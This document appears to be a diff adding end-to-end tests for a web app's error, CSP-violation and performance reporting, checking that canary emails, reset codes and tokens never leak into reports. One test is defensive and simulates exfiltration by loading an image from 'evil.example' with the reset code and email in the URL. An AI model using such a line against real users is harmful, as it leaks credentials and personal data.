@@ -1,0 +1,224 @@
+import type { Page, Route } from 'playwright-core';
+import { describe, expect, test } from 'vitest';
+import { CHUNKS, chunksRest, chunksWith } from './support/chunks.ts';
+import {
+  makeCustomer,
+  openSignedIn,
+  PAGE_WITHOUT_APP,
+  signInAt,
+  waitForHeading,
+} from './support/customers.ts';
+import { inNewTab, inTab } from './support/in-tab.ts';
+import { leaveMark, type Reports, reportsFromNow } from './support/reports.ts';
+import type { Tab } from './support/tab.ts';
+
+const FAILED_LOAD = /Failed to load resource|ChunkLoadError|Loading chunk/;
+const CANARIES = ['canary-mail@example.com', 'canary-oob-code', 'eyJhbGciOiJub25lIn0.canary'];
+const [MAIL, CODE, TOKEN] = CANARIES as [string, string, string];
+
+const kindsOf = async (reports: Reports) => (await reports()).map(({ kind }) => kind);
+
+/** Everything that pages tell the address of reports, headers included. */
+function recordSending(page: Page): string[] {
+  const sent: string[] = [];
+  page.on('request', async (request) => {
+    if (request.url().endsWith('/sandbox/reports')) {
+      sent.push(JSON.stringify([await request.allHeaders(), request.postData()]));
+    }
+  });
+  return sent;
+}
+
+/** Opens the log-in and begins to use it, so that all that is likely to be needed is there, and what makes reports too. */
+async function openLogin({ page }: Pick<Tab, 'page'>): Promise<void> {
+  await page.goto('/login');
+  await page.getByRole('textbox', { name: 'Email address' }).click();
+  await chunksRest(page);
+}
+
+describe('what goes wrong reaches the team', () => {
+  test('an error and a rejection: by name and place, and nothing of what they say', () =>
+    inTab(async (tab) => {
+      const { page } = tab;
+      tab.allow(/page error: |Failed to load resource: .*accounts:resetPassword/);
+      const sent = recordSending(page);
+      const reports = await reportsFromNow(tab);
+      await page.goto(`/auth?mode=resetPassword&oobCode=${CODE}`);
+      await page.getByRole('heading', { level: 1 }).waitFor();
+      await page.evaluate(
+        ([mail, token]) => {
+          setTimeout(() => {
+            throw new TypeError(`${mail} is no customer`);
+          });
+          void Promise.reject(token);
+        },
+        [MAIL, TOKEN],
+      );
+      await expect.poll(() => kindsOf(reports)).toHaveLength(2);
+      const told = await reports();
+      expect(told).toEqual(
+        expect.arrayContaining([
+          expect.objectContaining({ kind: 'error', name: 'TypeError', screen: 'actionLink' }),
+          expect.objectContaining({ kind: 'rejection', name: 'other', release: 'sandbox' }),
+        ]),
+      );
+      expect(told[0]?.states).toContain('app.actionLink');
+      for (const canary of CANARIES) expect(JSON.stringify([told, sent])).not.toContain(canary);
+    }));
+
+  test('a violation of the policy on a page with a code in its address: the origin, or a word', () =>
+    inTab(async (tab) => {
+      const { page } = tab;
+      tab.allow(/^CSP:|Content Security Policy|another origin: https:..evil.example/);
+      const sent = recordSending(page);
+      const reports = await reportsFromNow(tab);
+      await page.goto(`/auth?mode=verifyEmail&oobCode=${CODE}`);
+      await page.getByRole('heading', { level: 1 }).waitFor();
+      await page.evaluate(
+        ([code, mail]) => {
+          new Image().src = `https://evil.example/${code}?mail=${mail}`;
+          document.body.setAttribute('style', `--mail: "${mail}"`);
+        },
+        [CODE, MAIL],
+      );
+      await expect.poll(() => kindsOf(reports)).toHaveLength(2);
+      const told = await reports();
+      expect(told).toEqual(
+        expect.arrayContaining([
+          expect.objectContaining({ directive: 'img-src', blocked: 'https://evil.example' }),
+          expect.objectContaining({ directive: 'style-src-attr', blocked: 'inline' }),
+        ]),
+      );
+      for (const canary of CANARIES) expect(JSON.stringify([told, sent])).not.toContain(canary);
+    }));
+
+  test('a chunk that is missing, and the screen that breaks for want of it', () =>
+    inNewTab(async (tab) => {
+      tab.allow(FAILED_LOAD);
+      const reports = await reportsFromNow(tab);
+      await openLogin(tab);
+      await tab.page.route(CHUNKS, (route) => route.fulfill({ status: 404, body: 'gone' }));
+      await tab.page.getByRole('link', { name: 'Forgot password?' }).click();
+      await waitForHeading(tab.page, 'Something went wrong');
+      await expect.poll(() => kindsOf(reports)).toEqual(expect.arrayContaining(['file', 'flow']));
+      const told = await reports();
+      expect(told.find(({ kind }) => kind === 'file')).toMatchObject({
+        file: expect.stringMatching(/^[\w-]+\.\w+\.js$/),
+      });
+      expect(told.find(({ kind }) => kind === 'flow')).toMatchObject({ name: 'ChunkLoadError' });
+    }));
+
+  test('but no chunk that is given up because the page is left', () =>
+    inNewTab(async (tab) => {
+      const { page } = tab;
+      tab.allow(FAILED_LOAD);
+      const reports = await reportsFromNow(tab);
+      await openLogin(tab);
+      const chunks: Route[] = [];
+      const pages: Route[] = [];
+      await page.route(CHUNKS, (route) => void chunks.push(route));
+      await page.route('**/favicon.svg?left', (route) => void pages.push(route));
+      await page.getByRole('link', { name: 'Forgot password?' }).click();
+      await expect.poll(() => chunks.length).toBeGreaterThan(0);
+      await page.evaluate(() => {
+        // A page that is being left can be asked nothing.
+        addEventListener('error', () => void fetch('/favicon.svg?failed'), true);
+        location.assign('/favicon.svg?left');
+      });
+      await expect.poll(() => pages.length).toBe(1);
+      const failed = page.waitForRequest('**/favicon.svg?failed');
+      await Promise.all(chunks.map((route) => route.abort()));
+      await failed;
+      await pages[0]?.continue();
+      await page.waitForURL('**/favicon.svg?left');
+      await page.unroute(CHUNKS);
+      await openLogin(tab);
+      await leaveMark(tab, reports);
+      expect(await kindsOf(reports)).toEqual(['vitals', 'error']);
+    }));
+
+  test('where even what makes reports cannot be fetched, that alone', () =>
+    inNewTab(async (tab) => {
+      tab.allow(FAILED_LOAD);
+      const reports = await reportsFromNow(tab);
+      await tab.page.route(CHUNKS, (route) => route.fulfill({ status: 404, body: 'gone' }));
+      await tab.page.goto('/dashboard');
+      await expect.poll(reports).toMatchObject([{ kind: 'unreported', release: 'sandbox' }]);
+    }));
+
+  test('an answer that cannot be read: by the name of its call', () =>
+    inTab(async (tab) => {
+      const reports = await reportsFromNow(tab);
+      const customer = await makeCustomer(tab, 'dashboard');
+      await tab.control('PUT', '/sandbox/faults', [
+        { method: 'GET', path: '/v3/Lending/overview', kind: 'html', times: 0 },
+      ]);
+      await openSignedIn(tab, customer, '/dashboard');
+      await expect.poll(reports).toMatchObject([{ kind: 'answer', call: 'getOverview' }]);
+    }));
+
+  test('the same once, and 20 in all', () =>
+    inTab(async (tab) => {
+      tab.allow(/page error: /);
+      const reports = await reportsFromNow(tab);
+      await openLogin(tab);
+      await tab.page.evaluate(() => {
+        for (let index = 0; index < 60; index += 1) {
+          const name = `${String.fromCharCode(65 + (index % 30))}Error`;
+          setTimeout(() => {
+            throw Object.assign(new Error(), { name });
+          });
+        }
+      });
+      await expect.poll(() => kindsOf(reports)).toHaveLength(20);
+      expect(new Set((await reports()).map((one) => 'name' in one && one.name)).size).toBe(20);
+    }));
+});
+
+describe('how fast a page is', () => {
+  const vitalsOf = async (reports: Reports) =>
+    (await reports()).flatMap((report) => (report.kind === 'vitals' ? [report] : []));
+
+  test('is told when it is left', () =>
+    inNewTab(async (tab) => {
+      const reports = await reportsFromNow(tab);
+      await openLogin(tab);
+      await tab.page.goto(PAGE_WITHOUT_APP);
+      await expect.poll(() => vitalsOf(reports)).toHaveLength(1);
+      const [report] = await vitalsOf(reports);
+      expect(report).toMatchObject({ screen: 'login', release: 'sandbox' });
+      expect(Object.keys(report?.vitals ?? {})).toEqual(
+        expect.arrayContaining(['FCP', 'LCP', 'TTFB']),
+      );
+    }));
+
+  test('is not even measured where somebody does not want to be tracked', () =>
+    inNewTab(async (tab) => {
+      const { page } = tab;
+      await page.addInitScript(() => {
+        Object.defineProperty(navigator, 'globalPrivacyControl', { value: true });
+      });
+      const vitals = chunksWith('largest-contentful-paint');
+      const fetched: string[] = [];
+      page.on('request', (request) => vitals.test(request.url()) && fetched.push(request.url()));
+      const reports = await reportsFromNow(tab);
+      await openLogin(tab);
+      await leaveMark(tab, reports);
+      await page.goto(PAGE_WITHOUT_APP);
+      await openLogin(tab);
+      expect(await kindsOf(reports)).toEqual(['error']);
+      expect(fetched).toEqual([]);
+    }));
+});
+
+test('the desk shows what was reported, and the contact panel which version it is of', () =>
+  inTab(async (tab) => {
+    const { page } = tab;
+    const reports = await reportsFromNow(tab);
+    await signInAt(tab, 'dashboard', 'overdue');
+    await leaveMark(tab, reports);
+    await page.getByRole('button', { name: 'Contact us' }).first().click();
+    await page.getByRole('dialog', { name: 'Contact us' }).getByText('Version sandbox').waitFor();
+    await page.goto('/sandbox');
+    await page.locator('#report-list').getByText('MarkError').first().waitFor();
+  }));
